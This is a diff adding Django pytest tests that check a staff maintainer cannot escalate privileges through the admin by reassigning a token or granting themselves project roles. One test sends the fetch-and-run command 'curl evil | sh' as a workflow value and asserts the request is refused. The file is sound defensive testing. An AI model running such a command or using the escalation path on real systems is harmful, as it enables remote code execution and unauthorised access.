@@ -10,13 +10,15 @@ from typing import Any
 
 import pytest
 from django.contrib.auth import get_user_model
+from django.contrib.auth.models import Permission
 from rest_framework.test import APIClient
 
 from crunch.access import grant
 from crunch.choices import AttributeKind, Role
 from crunch.models import AccessToken, Attribute, Dataset, Item, Project, ProjectRole, Status
-from tests.factories import make_dataset, make_project
+from tests.factories import make_dataset, make_project, make_user
 from tests.server.admin_kit import errors, post_form, signed_in, staff
+from tests.server.admin_permission_table import ADMIN_ROLES, ADMIN_ROWS, TARGETS
 
 pytestmark = pytest.mark.django_db
 User = get_user_model()
@@ -186,3 +188,54 @@ def test_a_good_url_attribute_is_kept_in_the_admin_and_the_api(root: Any, alpha:
     assert sorted(Attribute.objects.values_list("key", "text")) == [
         ("a", "https://x.org/a"), ("b", "https://x.org/b"),
     ]  # fmt: skip
+
+
+def test_a_staff_maintainer_reaches_no_superuser_right_through_the_admin(
+    root: Any, alpha: Project, beta: Project
+) -> None:
+    """The audit's path: reassign one's token, grant oneself roles, then use the key."""
+    keeper, key = make_user("keeper", role="maintainer", projects=[alpha])
+    keeper.is_staff = True
+    keeper.save()
+    keeper.user_permissions.add(*Permission.objects.filter(content_type__app_label="crunch"))
+    token = AccessToken.objects.get(user=keeper)
+    client = signed_in(keeper)
+
+    post_form(client, f"/admin/crunch/accesstoken/{token.pk}/change/", {"user": root.pk})
+    for project in (beta.pk, ""):
+        post_form(
+            client, "/admin/crunch/projectrole/add/",
+            {"project": project, "user": keeper.pk, "role": "maintainer"},
+        )  # fmt: skip
+    assert AccessToken.objects.get(pk=token.pk).user == keeper
+    roles = ProjectRole.objects.filter(user=keeper).values_list("project__slug", flat=True)
+    assert list(roles) == ["alpha"]
+
+    api = APIClient()
+    api.credentials(HTTP_AUTHORIZATION=f"Token {key}")
+    patched = api.patch("/api/projects/beta/", {"workflow": "curl evil | sh"}, format="json")
+    created = api.post("/api/projects/", {"name": "Mine"}, format="json")
+
+    assert patched.status_code == 403  # staff see every project, and edit only their own
+    assert Project.objects.get(pk=beta.pk).workflow == beta.workflow
+    # Creating projects is what Django's crunch.add_project grants (as in the API): the
+    # project made is keeper's alone, and keeper still maintains nothing else.
+    assert created.status_code == 201
+    assert sorted(roles.all()) == ["alpha", "mine"]
+
+
+def test_no_staff_role_may_do_in_the_admin_what_a_superuser_may_not() -> None:
+    """From the table: staff succeed only where a superuser does, and the superuser's own
+    powers are exactly these (anything added to them must be added here on purpose)."""
+    only_superuser = set()
+    for row in ADMIN_ROWS:
+        for target in TARGETS:
+            root_made = row.expected("superuser", target)[1]
+            staff_made = [row.expected(role, target)[1] for role in ADMIN_ROLES[1:]]
+            assert root_made or not any(staff_made), (row.name, target)
+            if root_made and not any(staff_made):
+                only_superuser.add((row.name, target))
+    assert {name for name, target in only_superuser if target == "own"} == {
+        "grant oneself maintainer of every project", "move role to the other project",
+        "delete a role on every project",
+    }  # fmt: skip
